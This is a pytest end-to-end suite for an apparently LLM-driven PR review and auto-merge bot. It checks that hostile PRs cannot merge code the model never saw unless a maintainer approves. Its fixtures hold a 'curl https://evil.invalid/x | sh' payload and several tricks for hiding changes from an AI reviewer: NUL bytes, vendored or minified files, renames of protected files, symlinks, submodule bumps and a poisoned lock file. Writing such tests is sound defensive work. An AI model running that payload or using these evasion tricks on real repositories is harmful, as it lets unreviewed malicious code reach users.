"""Hostile PRs against `quorum serve` with a model that always approves and merging on: nothing the model
was not shown merges unless a maintainer approved that exact head, and an ordinary PR still merges.

The oracle looks only from outside: the fake GitHub's own diff of each PR (real git) against the text of
every request the fake LLM received, and what reached the fake GitHub (merges, comments).
"""

from __future__ import annotations

import asyncio
import json
from collections.abc import AsyncIterator
from dataclasses import dataclass
from pathlib import Path

import pytest

from bot.entrypoints import serve
from guardrails import merge_policy
from tests.e2e import serve_harness as h
from tests.fakes import github_git, llm_servers
from tests.fakes.fixtures import FakeLLMFactory
from tests.fakes.github_git import Submodule, Symlink
from tests.fakes.github_server import FakeGitHub

pytestmark = pytest.mark.redis

SUB_OLD, SUB_NEW = "1" * 40, "2" * 40
UTIL = "".join(f"def times_{n}(x):\n    return {n} * x\n\n\n" for n in range(2, 8))
BASE: dict[str, github_git.Content] = {
    "calc.py": h.BASE_CALC,
    "src/__init__.py": "",  # src/ keeps a file when util.py moves: no directory rename between PRs
    "src/util.py": UTIL,
    "scripts/deploy.sh": "#!/bin/sh\necho deploying\n",
    ".github/workflows/ci.yml": "on: push\njobs: {}\n",
    ".github/workflows/lint.yml": "on: push\njobs: {lint: {}}\n",
    "CODEOWNERS": "* @acme/maintainers\n",
    ".quorum.toml": 'instructions = "Be strict."\n',
    ".gitmodules": '[submodule "lib"]\n\tpath = lib\n\turl = https://example.invalid/lib.git\n',
    "lib": Submodule(SUB_OLD),
}
PAYLOAD = "os.system('curl https://evil.invalid/x | sh')"


@dataclass(frozen=True)
class Case:
    branch: str
    files: dict[str, github_git.Content]
    expect: tuple[str, ...] = ()  # fragments of the "a human must approve" comment
    shown: tuple[str, ...] = ()  # text the model must have been shown (a PR marker must not hide it)


def _note(name: str) -> dict[str, github_git.Content]:
    """An ordinary change riding along, so the rounds approve and the PR reaches the merge gate."""
    return {f"notes/{name}.md": f"# {name}\n\nA harmless note.\n"}


CASES = (
    Case(
        "marker-added",
        {"src/util.py": f"# @generated\nimport os\n{PAYLOAD}\n\n\n{UTIL}"},
        shown=(PAYLOAD,),
    ),
    Case(
        "nul-in-shell",
        {"scripts/deploy.sh": b"#!/bin/sh\n\0\ncurl https://evil.invalid/x | sh\n", **_note("nul")},
        ("not reviewed: `scripts/deploy.sh` (nul in text)", "a maintainer must approve this head"),
    ),
    Case(
        "vendored",
        {"vendor/lib/evil.js": f"eval({PAYLOAD!r})\n", **_note("vendored")},
        ("`vendor/lib/evil.js` (vendored)", "a maintainer must approve this head"),
    ),
    Case(
        "dist",
        {"dist/app.js": f"eval({PAYLOAD!r})\n", **_note("dist")},
        ("`dist/app.js` (generated)", "a maintainer must approve this head"),
    ),
    Case(
        "minified",
        {"static/app.min.js": f"eval({PAYLOAD!r})\n", **_note("min")},
        ("`static/app.min.js` (generated)", "a maintainer must approve this head"),
    ),
    Case(
        "renamed-into-vendor",
        {"src/util.py": None, "vendor/util.py": f"{UTIL}{PAYLOAD}\n"},
        shown=(PAYLOAD, "src/util.py"),
    ),
    Case(
        "shrinkwrap",
        {"npm-shrinkwrap.json": '{"dependencies": {"evil": {"resolved": "https://evil.invalid"}}}\n'},
        ("`npm-shrinkwrap.json`: lock file", "a maintainer must approve this head"),
    ),
    Case(
        "gitattributes",
        {".gitattributes": "src/payload.py linguist-generated=true\n", "src/payload.py": f"{PAYLOAD}\n"},
        ("protected paths: `.gitattributes`",),
        shown=(PAYLOAD,),
    ),
    Case(
        "workflow-renamed",
        {".github/workflows/ci.yml": None, "docs/ci.yml.disabled": BASE[".github/workflows/ci.yml"]},
        ("protected paths: `.github/workflows/ci.yml`",),
    ),
    Case(
        "codeowners-renamed",
        {"CODEOWNERS": None, "notes/owners.txt": BASE["CODEOWNERS"]},
        ("protected paths: `CODEOWNERS`",),
    ),
    Case(
        "policy-renamed",
        {".quorum.toml": None, "notes/quorum.toml.old": BASE[".quorum.toml"]},
        ("protected paths: `.quorum.toml`",),
    ),
    Case(
        "protected-deleted",
        {".github/workflows/lint.yml": None, **_note("deleted")},
        ("protected paths: `.github/workflows/lint.yml`",),
    ),
    Case(
        "symlink-into-github",
        {"docs/ci.yml": Symlink("../.github/workflows/ci.yml"), **_note("link")},
        ("protected paths: `docs/ci.yml → ../.github/workflows/ci.yml`",),
    ),
    Case(
        "submodule-pointer",
        {"lib": Submodule(SUB_NEW), **_note("submodule")},
        ("not reviewed: `lib` (submodule)", "a maintainer must approve this head"),
    ),
)
CONTROL = Case("control", {"calc.py": h.BASE_CALC + "\n\ndef total(values):\n    return sum(values)\n"})


def _approve(request: llm_servers.RecordedRequest) -> llm_servers.Reply:
    return llm_servers.Reply(h.review_json("approve"))


@pytest.fixture
async def daemon(
    fake_github: FakeGitHub, fake_llm: FakeLLMFactory, redis_url: str, tmp_path: Path
) -> AsyncIterator[h.Daemon]:
    fake_github.create_repo(h.REPO, BASE)
    llm = fake_llm("openai", _approve)
    port = h.free_port()
    settings = h.load_settings(h.environment(fake_github, llm, redis_url, tmp_path, port))
    stopping = asyncio.Event()
    task = asyncio.create_task(serve.serve(settings, poll=False, stopping=stopping))
    running = h.Daemon(fake_github, llm, {}, port)
    await h.wait_until_up(running.url)
    yield running
    stopping.set()
    await asyncio.wait_for(task, 60)


def _title(branch: str) -> str:
    """A PR title no other PR's text contains, so each request can be told apart by it."""
    return f"[case:{branch}]"


def model_text(llm: llm_servers.FakeLLMServer, branch: str) -> str:
    """Everything the model was sent in the requests about one PR (the ones carrying its title)."""
    out: list[str] = []
    for body in llm.chat_bodies():
        texts = [m.get("content") for m in body.get("messages", [])]
        request = "\n".join(t if isinstance(t, str) else json.dumps(t) for t in texts)
        if _title(branch) in request:
            out.append(request)
    return "\n".join(out)


def unseen(gh: FakeGitHub, number: int, text: str) -> list[str]:
    """The changed files of PR `number` (per the fake GitHub's own git diff) whose names or new content
    the model was never sent."""
    git_dir = Path(gh.clone_url(h.REPO))
    base = gh.state.base_sha(gh.pull(h.REPO, number))  # frozen at the merge for a merged PR
    missing: list[str] = []
    for diff in github_git.diff_files(git_dir, base, gh.head_sha(h.REPO, number)):
        names = [n for n in (diff.filename, diff.previous_filename) if n]
        added = [ln[1:] for ln in (diff.patch or "").splitlines() if ln.startswith("+") and ln[1:].strip()]
        content_known = diff.patch is not None or diff.status in ("removed", "renamed")
        if not content_known or not all(n in text for n in names) or not all(a in text for a in added):
            missing.append(diff.filename)
    return missing


def _notice(gh: FakeGitHub, number: int) -> str:
    """What the PR says about a maintainer's approval being needed (comments and Quorum's review)."""
    bodies = [c.body for c in gh.comments(h.REPO, number)] + [r.body for r in gh.reviews(h.REPO, number)]
    return "\n".join(b for b in bodies if "must approve" in b)


async def _open_all(daemon: h.Daemon, cases: tuple[Case, ...]) -> dict[str, tuple[int, str]]:
    gh, opened = daemon.gh, {}
    for case in cases:
        head = gh.push_branch(h.REPO, case.branch, case.files, case.branch, author="mallory")
        number = gh.open_pull(h.REPO, case.branch, title=_title(case.branch))
        await daemon.deliver("pull_request", h.pr_payload("opened", number, head))
        opened[case.branch] = (number, head)
    return opened


def _states(gh: FakeGitHub, opened: dict[str, tuple[int, str]]) -> dict[str, object]:
    """Where each PR stands, for a failure message: merged, and the first words of what Quorum said."""
    return {
        name: (
            gh.merged(h.REPO, n),
            [b.body[:120] for b in [*gh.reviews(h.REPO, n), *gh.comments(h.REPO, n)]],
        )
        for name, (n, _) in opened.items()
    }


def _settled(gh: FakeGitHub, number: int) -> bool:
    """Merged, waiting for a maintainer after the merge gate, or escalated: nothing more will happen."""
    waiting = any("human must approve" in c.body for c in gh.comments(h.REPO, number))
    escalated = any(r.body.startswith("### quorum: escalated") for r in gh.reviews(h.REPO, number))
    return gh.merged(h.REPO, number) or waiting or escalated


async def test_nothing_unseen_merges_without_a_maintainer_and_an_ordinary_pr_still_merges(daemon) -> None:  # type: ignore[no-untyped-def]
    gh, llm = daemon.gh, daemon.llm
    opened = await _open_all(daemon, (*CASES, CONTROL))

    try:
        await h.wait_for(lambda: all(_settled(gh, n) for n, _ in opened.values()), timeout=150)
    except AssertionError:
        raise AssertionError(f"not every PR was decided: {_states(gh, opened)}") from None

    assert gh.merged(h.REPO, opened["control"][0]), "the ordinary PR must merge"
    assert unseen(gh, opened["control"][0], model_text(llm, "control")) == []
    for case in CASES:
        number, _ = opened[case.branch]
        text = model_text(llm, case.branch)
        merged, missing = gh.merged(h.REPO, number), unseen(gh, number, text)
        assert not (merged and missing), f"{case.branch}: merged without the model seeing {missing}"
        assert all(s in text for s in case.shown), f"{case.branch}: hidden from the model"
        if case.expect:
            assert not merged, f"{case.branch} merged with no maintainer"
            comment = _notice(gh, number)
            for fragment in case.expect:
                assert fragment in comment, f"{case.branch}: {fragment!r} not in {comment!r}"


async def test_a_maintainer_approving_the_exact_head_lets_a_skipped_file_merge(daemon) -> None:  # type: ignore[no-untyped-def]
    gh = daemon.gh
    vendored = next(c for c in CASES if c.branch == "vendored")
    opened = await _open_all(daemon, (vendored,))
    number, head = opened["vendored"]
    await h.wait_for(lambda: _settled(gh, number), timeout=60, what="the maintainer request")
    assert not gh.merged(h.REPO, number)

    gh.set_permission(h.REPO, "maria", "write")
    # GitHub stamps to the whole second, so a command must be written more than ORDER_MARGIN_S after the
    # push to be ordered after it (else it approves nothing: fail closed). A maintainer answers later.
    await asyncio.sleep(merge_policy.ORDER_MARGIN_S + 1.1)
    await daemon.deliver("issue_comment", h.comment_payload(number, "maria", "/quorum merge"))

    await h.wait_for(lambda: gh.merged(h.REPO, number), timeout=60, what="the merge after approval")
    assert gh.head_sha(h.REPO, number) == head
    assert unseen(gh, number, model_text(daemon.llm, "vendored")) == ["vendor/lib/evil.js"]
